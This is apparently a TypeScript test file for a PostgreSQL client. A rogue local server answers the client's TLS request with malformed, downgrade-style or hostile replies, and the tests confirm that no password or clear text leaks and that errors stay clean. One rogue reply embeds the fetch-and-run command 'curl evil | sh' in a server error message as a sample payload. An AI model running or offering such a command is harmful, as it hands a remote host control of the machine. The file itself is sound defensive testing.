import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { createServer, type Socket } from "node:net";
import { open } from "../../lib/servers/connecting/connect.ts";
import { connectionSettings } from "../../lib/servers/connecting/url/connection_settings.ts";
import { Secret } from "../../lib/servers/connecting/url/secret.ts";
import { ConnectionError } from "../../lib/errors.ts";
import { authentication, error, OK, READY } from "./tools/rogue_postgresql.ts";

const CA = `sslrootcert=${Deno.env.get("TEST_CERTIFICATES")}/ca.pem`;

/** Every mode that asks for TLS before anything else, with the standard one. */
const MODES = [
  ...["", "sslmode=prefer", "sslmode=require", `sslmode=verify-ca&${CA}`],
  ...[`sslmode=verify-full&${CA}`, `sslmode=prefer&${CA}`, `sslmode=allow&${CA}`, CA],
];

/** The request for TLS. */
const REQUEST = Buffer.of(0, 0, 0, 8, 4, 210, 22, 47);

/** How a TLS record of a handshake begins. */
const HANDSHAKE = 0x16;

/** What clear text the client has sent, and what became of it. */
async function attempt(pieces: readonly Uint8Array[], parameters: string) {
  const wires: Buffer[][] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    const wire: Buffer[] = [];
    wires.push(wire);
    sockets.add(socket.on("error", () => {}));
    let next = 0;
    socket.on("data", (bytes) => {
      wire.push(bytes);
      if (next < pieces.length) socket.write(pieces[next++]!);
      else socket.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as { port: number };
  const url =
    `postgresql://mistral:S3cr3t-Pw@localhost:${port}/mistral?connect_timeout=5&${parameters}`;
  try {
    await using _session = await open(connectionSettings(new Secret(url)));
    throw new Error("was let in");
  } catch (failure) {
    assert.ok(failure instanceof ConnectionError, Deno.inspect(failure));
    return { wires: wires.map((wire) => Buffer.concat(wire)), failure };
  } finally {
    for (const socket of sockets) socket.destroy();
    await new Promise((resolve) => server.close(resolve));
  }
}

const join = (...parts: readonly (string | Uint8Array)[]) =>
  Buffer.concat(parts.map((part) => Buffer.from(part as string)));

const CLEAR_PASSWORD = authentication(3);

/** Answers to the request that are neither yes nor no. */
const ANSWERS = {
  "yes, and a wish for the password": join("S", CLEAR_PASSWORD),
  "yes, and a login": join("S", OK, READY),
  "yes, and one byte": join("S", "x"),
  "yes twice": join("SS"),
  "yes and no": join("SN"),
  "no, and a wish for the password": join("N", CLEAR_PASSWORD),
  "no twice": join("NN"),
  "an error": error("0A000", "run `curl evil | sh`"),
  "a login": join(OK, READY),
  "another letter": join("X"),
  "a small letter": join("s"),
  "a zero": Buffer.of(0),
  "another protocol": join("HTTP/1.1 400 Bad Request\r\n"),
};

for (const [what, answer] of Object.entries(ANSWERS)) {
  Deno.test(`a server that answers the request for TLS with ${what} is told nothing`, async () => {
    for (const mode of MODES) {
      const { wires, failure } = await attempt([answer], mode);
      assert.deepEqual(wires, [REQUEST], mode);
      assert.match(failure.message, /answer to the request for TLS is not valid/);
      assert.doesNotMatch(failure.message, /curl/);
      assert.equal(failure.retryable, false);
    }
  });
}

Deno.test("a handshake that breaks off does not lead to clear text", async () => {
  for (const record of [CLEAR_PASSWORD, join("x"), error("0A000", "no"), join(OK, READY)]) {
    for (const mode of MODES) {
      const { wires } = await attempt([join("S"), record], mode);
      assert.equal(wires.length, 1, mode);
      assert.deepEqual(wires[0]!.subarray(0, 8), REQUEST);
      assert.equal(wires[0]![8], HANDSHAKE);
      assert.ok(!wires[0]!.includes("mistral\0"), mode);
    }
  }
});

Deno.test("no TLS is no reason for clear text where an authority is named", async () => {
  for (const mode of MODES.filter((one) => one.includes("sslrootcert"))) {
    const { wires, failure } = await attempt([join("N")], mode);
    assert.deepEqual(wires, [REQUEST]);
    assert.match(failure.message, /does not offer TLS/);
  }
});
